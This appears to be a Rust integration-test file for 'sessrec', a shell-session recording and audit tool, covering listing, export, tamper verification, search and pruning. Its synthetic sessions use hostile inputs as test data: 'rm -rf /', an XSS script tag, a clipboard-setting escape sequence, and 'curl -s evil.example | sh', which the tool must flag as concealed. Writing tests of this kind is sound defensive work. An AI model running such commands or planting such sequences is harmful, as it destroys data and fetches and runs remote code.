//! The `sessrec` binary against record trees written with the real record writer.
//! (The end-to-end tests in tests/tests/cli_*.rs use records of real recorded sessions.)

use std::path::Path;
use std::process::Output;

use sessrec_core::id::SessionId;
use sessrec_core::testing::synth::{id_at, SynthSession};
use sessrec_core::testing::TempDir;

mod support;
use support::sessrec;

fn text(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A closed session: a shell with typed commands (one edited, one with a hostile path in its
/// output), and an exec channel.
fn sample(records: &Path) -> SessionId {
    let id = id_at(1_764_000_000_000).unwrap(); // 2025-11-24
    let mut s =
        SynthSession::login(records, id, "srt-alice", "alice@example.com", "203.0.113.7").unwrap();
    let mut ch = s.channel("shell", "pty", None).unwrap();
    let mut t = 100_000;
    ch.typed(&mut t, "$ ", "echo hello-42", "hello-42\n")
        .unwrap();
    // Typed "rm -rf /", erased it with Ctrl-U, then typed "ls".
    ch.output(t, b"$ ").unwrap();
    for c in b"rm -rf /" {
        t += 50_000;
        ch.input(t, &[*c]).unwrap();
        ch.output(t + 100, &[*c]).unwrap();
    }
    t += 50_000;
    ch.input(t, b"\x15").unwrap();
    ch.output(t + 100, b"\r\x1b[K$ ").unwrap();
    for c in b"ls" {
        t += 50_000;
        ch.input(t, &[*c]).unwrap();
        ch.output(t + 100, &[*c]).unwrap();
    }
    t += 50_000;
    ch.input(t, b"\r").unwrap();
    ch.output(
        t + 100,
        b"\r\n</script><script>alert(1)</script>\r\n\x1b]52;c;ZXZpbA==\x07split-nee",
    )
    .unwrap();
    // A frame split across two record lines: force a line break between them.
    ch.flush().unwrap();
    ch.output(t + 200, b"dle-text\r\n\xff\xfe binary\r\n")
        .unwrap();
    t += 1_000_000;
    ch.typed(&mut t, "$ ", "exit", "").unwrap();
    s.finished(ch, 0).unwrap();
    let mut ex = s.channel("exec", "pipe", Some("uname -a")).unwrap();
    ex.output(10_000, b"Linux bastion 6.1.0\n").unwrap();
    s.finished(ex, 0).unwrap();
    let dir = s.logout().unwrap();
    // The writer stamps the current time: move the record to the id's own date.
    let delta = 1_764_000_000_000_000 - sessrec_core::time::Timestamp::now().as_micros();
    sessrec_core::testing::synth::shift_times(&dir, delta).unwrap();
    id
}

#[test]
fn list_show_and_json() {
    let t = TempDir::new("list");
    let id = sample(&t.join("records"));
    let other = SynthSession::login(
        &t.join("records"),
        id_at(1_700_000_000_000).unwrap(),
        "srt-bob",
        "srt-bob",
        "198.51.100.2",
    )
    .unwrap();
    let dir = other.abandon().unwrap();
    sessrec_core::testing::synth::shift_times(
        &dir,
        1_700_000_000_000_000 - sessrec_core::time::Timestamp::now().as_micros(),
    )
    .unwrap();

    let o = sessrec(&t.join("records"), &["list"]);
    assert!(o.status.success(), "{o:?}");
    let out = text(&o);
    assert!(out.contains(&id.to_string()), "{out}");
    assert!(
        out.contains("alice@example.com") && out.contains("203.0.113.7"),
        "{out}"
    );
    assert!(out.contains("closed") && out.contains("damaged"), "{out}");
    assert!(out.contains("no logout line"), "{out}");

    let o = sessrec(
        &t.join("records"),
        &["list", "--user", "srt-alice", "--json"],
    );
    let lines: Vec<serde_json::Value> = text(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["channels"], 2);
    assert_eq!(lines[0]["state"], "closed");
    let o = sessrec(
        &t.join("records"),
        &["list", "--since", "2025-11-24", "--json"],
    );
    assert_eq!(text(&o).lines().count(), 1);
    let o = sessrec(
        &t.join("records"),
        &["list", "--until", "2025-01-01", "--json"],
    );
    assert_eq!(text(&o).lines().count(), 1);
    let o = sessrec(
        &t.join("records"),
        &["list", "--from", "198.51.*", "--json"],
    );
    assert!(text(&o).contains("srt-bob"));

    let o = sessrec(&t.join("records"), &["show", &id.to_string()]);
    assert!(o.status.success(), "{o:?}");
    let out = text(&o);
    assert!(out.contains("$ echo hello-42"), "{out}");
    assert!(out.contains("$ ls"), "{out}");
    assert!(out.contains("typed then erased: \"rm -rf /\""), "{out}");
    assert!(out.contains("command: uname -a"), "{out}");
    assert!(out.contains("logout"), "{out}");
    assert!(!out.contains('\x1b'), "show must not print raw escapes");
    // Prefix lookup works too.
    let o = sessrec(
        &t.join("records"),
        &["show", &id.to_string()[..13], "--json"],
    );
    assert!(o.status.success());
    assert!(text(&o)
        .lines()
        .all(|l| serde_json::from_str::<serde_json::Value>(l).is_ok()));
}

#[test]
fn exports() {
    let t = TempDir::new("export");
    let id = sample(&t.join("records"));
    let target = format!("{id}/1");
    let o = sessrec(
        &t.join("records"),
        &["export", &target, "--format", "asciicast-v2"],
    );
    assert!(o.status.success(), "{o:?}");
    let out = text(&o);
    let mut lines = out.lines();
    let header: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert_eq!(header["width"], 80);
    assert_eq!(header["sessrec"]["invalid_bytes"], 2);
    let mut shown = String::new();
    let mut last = 0.0;
    for l in lines {
        let ev: serde_json::Value = serde_json::from_str(l).unwrap();
        let t = ev[0].as_f64().unwrap();
        assert!(t >= last);
        last = t;
        if ev[1] == "o" {
            shown.push_str(ev[2].as_str().unwrap());
        }
    }
    assert!(shown.contains("split-needle-text"));
    assert!(shown.contains('\u{fffd}'));
    assert!(
        !shown.contains("]52;"),
        "clipboard sequence must be filtered"
    );

    let o = sessrec(
        &t.join("records"),
        &["export", &target, "--format", "asciicast-v3", "--raw"],
    );
    let out = text(&o);
    let header: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
    assert_eq!(header["version"], 3);
    assert_eq!(header["term"]["cols"], 80);
    assert!(out.contains("]52;"), "--raw keeps every sequence");

    let o = sessrec(&t.join("records"), &["export", &target, "--format", "text"]);
    let out = text(&o);
    assert!(out.contains("$ echo hello-42\nhello-42"), "{out}");
    // Erased on screen, so kept in the transcript with a mark, once.
    assert!(
        out.contains("$ rm -rf /\n[erased: the line above was removed from the screen here]"),
        "{out}"
    );
    assert_eq!(out.matches("rm -rf").count(), 1, "{out}");
    let o = sessrec(
        &t.join("records"),
        &["export", &target, "--format", "text", "--typed"],
    );
    assert!(
        text(&o).contains("rm -rf /"),
        "the typed variant keeps every glyph"
    );

    let o = sessrec(
        &t.join("records"),
        &["export", &id.to_string(), "--format", "json"],
    );
    assert!(o.status.success());
    assert!(text(&o).lines().any(|l| l.contains("uname -a")));
    let o = sessrec(&t.join("records"), &["export", &target, "--format", "mp4"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown format"));
}

#[test]
fn verify_detects_tampering() {
    let t = TempDir::new("verify");
    let id = sample(&t.join("records"));
    let o = sessrec(&t.join("records"), &["verify", &id.to_string()]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).starts_with("OK"));
    let dir = t
        .join("records")
        .join(sessrec_core::tree::session_relative_path(id));
    let ch = dir.join("channel-1.jsonl");
    let original = std::fs::read(&ch).unwrap();

    // Edited line.
    let edited = String::from_utf8(original.clone())
        .unwrap()
        .replacen("hello-42", "hello-43", 1);
    std::fs::write(&ch, edited).unwrap();
    let o = sessrec(&t.join("records"), &["verify", &id.to_string()]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("channel-1.jsonl:"), "{}", text(&o));
    assert!(text(&o).contains("prev does not match"), "{}", text(&o));

    // Deleted line.
    let mut lines: Vec<&[u8]> = original.split_inclusive(|&b| b == b'\n').collect();
    lines.remove(2);
    std::fs::write(&ch, lines.concat()).unwrap();
    let o = sessrec(&t.join("records"), &["verify", &id.to_string()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o).contains("channel-1.jsonl:3:"), "{}", text(&o));

    // Truncated: last line cut off (channel.end removed) — the logout's digest catches it.
    let lines: Vec<&[u8]> = original.split_inclusive(|&b| b == b'\n').collect();
    std::fs::write(&ch, lines[..lines.len() - 1].concat()).unwrap();
    let o = sessrec(&t.join("records"), &["verify", "--all"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("lines were removed"), "{}", text(&o));

    // Incomplete last line only (a crash remnant) after restoring.
    let mut partial = original.clone();
    partial.extend_from_slice(b"{\"v\":1,\"type\":\"io\"");
    std::fs::write(&ch, &partial).unwrap();
    let o = sessrec(&t.join("records"), &["verify", &id.to_string(), "--json"]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    std::fs::write(&ch, &original).unwrap();
    assert_eq!(
        sessrec(&t.join("records"), &["verify", &id.to_string()])
            .status
            .code(),
        Some(0)
    );

    // A deleted channel file.
    std::fs::remove_file(dir.join("channel-2.jsonl")).unwrap();
    let o = sessrec(&t.join("records"), &["verify", &id.to_string()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o).contains("channel-2.jsonl: missing"),
        "{}",
        text(&o)
    );
}

#[test]
fn search_across_lines_and_escapes() {
    let t = TempDir::new("search");
    let id = sample(&t.join("records"));
    let o = sessrec(&t.join("records"), &["search", "split-needle-text"]);
    assert_eq!(o.status.code(), Some(0), "{o:?}");
    let out = text(&o);
    assert!(out.contains(&format!("{id}/channel-1")), "{out}");
    assert_eq!(out.lines().count(), 1, "{out}");
    let o = sessrec(&t.join("records"), &["search", "--commands", "^echo hello"]);
    assert!(text(&o).contains("command"), "{}", text(&o));
    let o = sessrec(
        &t.join("records"),
        &["search", "--input", "hello-42", "--json"],
    );
    let v: serde_json::Value = serde_json::from_str(text(&o).lines().next().unwrap()).unwrap();
    assert_eq!(v["stream"], "input");
    let o = sessrec(&t.join("records"), &["search", "no-such-text-anywhere"]);
    assert_eq!(o.status.code(), Some(1));
    let o = sessrec(&t.join("records"), &["search", "(unclosed"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("bad regex"));
}

#[test]
fn prune_keeps_recent_and_live() {
    let t = TempDir::new("prune");
    let old = sample(&t.join("records"));
    let recent = SynthSession::login(
        &t.join("records"),
        SessionId::new().unwrap(),
        "srt-c",
        "srt-c",
        "192.0.2.3",
    )
    .unwrap()
    .logout()
    .unwrap();
    let o = sessrec(
        &t.join("records"),
        &["prune", "--older-than", "30d", "--dry-run"],
    );
    assert!(o.status.success(), "{o:?}");
    assert!(text(&o).contains("would remove"), "{}", text(&o));
    assert!(recent.exists());
    let o = sessrec(&t.join("records"), &["prune", "--older-than", "30d"]);
    assert!(o.status.success());
    assert!(!t
        .join("records")
        .join(sessrec_core::tree::session_relative_path(old))
        .exists());
    assert!(recent.exists());
    assert!(
        !t.join("records").join("2025").exists(),
        "empty date directories are removed"
    );
}

#[test]
fn damaged_files_are_reported_not_fatal() {
    let t = TempDir::new("damaged");
    let id = sample(&t.join("records"));
    let dir = t
        .join("records")
        .join(sessrec_core::tree::session_relative_path(id));
    std::fs::write(dir.join("channel-3.jsonl"), b"not json\n{\"type\":").unwrap();
    for args in [vec!["list"], vec!["search", "hello-42"]] {
        let o = sessrec(&t.join("records"), &args);
        assert!(o.status.success(), "{args:?}: {o:?}");
    }
    // The timeline is shown whole, the damage named, and the exit status is a finding.
    let o = sessrec(&t.join("records"), &["show", &id.to_string()]);
    assert_eq!(o.status.code(), Some(1), "{o:?}");
    assert!(text(&o).contains("damaged"), "{}", text(&o));
    assert!(
        text(&o).contains("integrity: damaged at channel-3.jsonl line 1"),
        "{}",
        text(&o)
    );
}

#[test]
fn show_flags_concealed_commands_and_echo_mismatch() {
    let t = TempDir::new("conceal");
    let id = SessionId::new().unwrap();
    let mut s =
        SynthSession::login(&t.join("records"), id, "srt-eve", "srt-eve", "192.0.2.66").unwrap();
    let mut ch = s.channel("shell", "pty", None).unwrap();
    let mut at = 100_000;
    // Typed and echoed, then the next output moves up and erases the command line.
    ch.typed(&mut at, "$ ", "curl -s evil.example | sh", "")
        .unwrap();
    ch.output(at, b"\x1b[1A\r\x1b[2K$ ").unwrap();
    at += 2_000_000;
    // Tab completion: the keys say "cd /us", the screen says "cd /usr/".
    ch.input(at, b"cd /us").unwrap();
    ch.output(at + 100, b"cd /us").unwrap();
    at += 100_000;
    ch.input(at, b"\t").unwrap();
    ch.output(at + 100, b"r/").unwrap();
    at += 100_000;
    ch.input(at, b"\r").unwrap();
    ch.output(at + 100, b"\r\n$ ").unwrap();
    at += 2_000_000;
    ch.typed(&mut at, "", "echo visible", "visible\n").unwrap();
    at += 2_000_000;
    ch.output(at, b"$ ").unwrap();
    s.finished(ch, 0).unwrap();
    s.logout().unwrap();

    let o = sessrec(&t.join("records"), &["show", &id.to_string()]);
    let out = text(&o);
    let line = |needle: &str| {
        out.lines()
            .find(|l| l.contains(needle))
            .unwrap_or_else(|| panic!("{needle} missing:\n{out}"))
            .to_string()
    };
    assert!(
        line("curl -s evil.example").contains("concealed: erased from the screen"),
        "{out}"
    );
    // Resolved from the screen, with the keys beside it.
    let cd = line("$ cd /usr/");
    assert!(
        cd.contains("completed on screen; keys: \"cd /us\"") && !cd.contains("guess"),
        "{cd}"
    );
    assert!(!line("$ echo visible").contains('['), "{out}");
    let o = sessrec(&t.join("records"), &["show", &id.to_string(), "--json"]);
    assert!(text(&o).contains("\"concealed\":true"));
}

#[test]
fn unattributed_sudo_sessions_and_list_verify() {
    use sessrec_core::record::{FileContext, Stream};
    use sessrec_core::tree::SessionDir;
    use sessrec_core::writer::{RecordWriter, WriterOptions};
    let t = TempDir::new("unattr");
    let id = sample(&t.join("records"));
    let rel = Path::new("unattributed/2025/11/24/sudo-orphan-1");
    let dir = SessionDir::create_relative(&t.join("records"), rel, None).unwrap();
    let name = "sudo-00000000000000aa.jsonl";
    let ctx = FileContext {
        host: "bastion.test".into(),
        session: SessionId::new().unwrap(),
        file: name.into(),
        user: "srt-root".into(),
        actor: "srt-root".into(),
    };
    let mut w = RecordWriter::new(
        dir.create_file(name).unwrap(),
        ctx,
        WriterOptions::default(),
    )
    .unwrap();
    let fields = |v: serde_json::Value| v.as_object().unwrap().clone();
    w.event(
        "sudo.start",
        fields(serde_json::json!({"runuser": "root", "command": "/usr/bin/id"})),
    )
    .unwrap();
    w.io(Stream::Output, 1000, b"uid=0(root)\r\n").unwrap();
    w.event("sudo.end", fields(serde_json::json!({"exit_code": 0})))
        .unwrap();
    w.close().unwrap();

    let o = sessrec(&t.join("records"), &["list"]);
    assert!(
        text(&o).contains("unattributed/sudo-orphan-1"),
        "{}",
        text(&o)
    );
    let o = sessrec(&t.join("records"), &["show", "unattributed/sudo-orphan-1"]);
    assert!(
        text(&o).contains("sudo as root: /usr/bin/id"),
        "{}",
        text(&o)
    );
    let o = sessrec(
        &t.join("records"),
        &["export", "unattributed/sudo-orphan-1", "--format", "text"],
    );
    assert!(text(&o).contains("uid=0(root)"), "{}", text(&o));

    let o = sessrec(&t.join("records"), &["list", "--verify", "--json"]);
    for l in text(&o).lines() {
        let v: serde_json::Value = serde_json::from_str(l).unwrap();
        assert_eq!(v["verify"]["ok"], true, "{v}");
    }
    let ch = t
        .join("records")
        .join(sessrec_core::tree::session_relative_path(id))
        .join("channel-2.jsonl");
    let edited = std::fs::read_to_string(&ch)
        .unwrap()
        .replace("bastion 6.1.0", "bastion 6.1.1");
    std::fs::write(&ch, edited).unwrap();
    let o = sessrec(&t.join("records"), &["list", "--verify"]);
    assert!(text(&o).contains(",DAMAGED"), "{}", text(&o));
}

/// The recorded user sizes their terminal: a pty no one sized (0×0, as `ssh -tt host cmd
/// </dev/null` gives), one row, or 65535 columns must not stop any view.
#[test]
fn any_terminal_size_the_user_recorded_is_shown() {
    let t = TempDir::new("sizes");
    let records = t.join("records");
    let id = id_at(1_764_000_000_000).unwrap();
    let mut s = SynthSession::login(
        &records,
        id,
        "srt-alice",
        "alice@example.com",
        "203.0.113.7",
    )
    .unwrap();
    let mut ch = s.channel("shell", "pty", None).unwrap();
    let mut t_us = 100_000;
    for (cols, rows) in [(0u32, 0u32), (80, 1), (1, 24), (u32::MAX, u32::MAX)] {
        ch.event(
            "resize",
            serde_json::json!({"cols": cols, "rows": rows, "off": t_us}),
        )
        .unwrap();
        ch.typed(
            &mut t_us,
            "$ ",
            "echo wide-\u{4e2d}-text",
            "wide-\u{4e2d}-text\n",
        )
        .unwrap();
    }
    s.finished(ch, 0).unwrap();
    s.logout().unwrap();
    let session = id.to_string();
    for args in [
        vec!["show", session.as_str()],
        vec!["export", "--format", "text", session.as_str()],
        vec!["export", "--format", "asciicast-v3", session.as_str()],
        vec!["play", "--speed", "1000", session.as_str()],
    ] {
        let o = sessrec(&records, &args);
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(o.status.success(), "{args:?}: {stderr}");
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    }
    let o = sessrec(&records, &["export", "--format", "text", &session]);
    assert!(text(&o).contains("wide-\u{4e2d}-text"), "{}", text(&o));
}
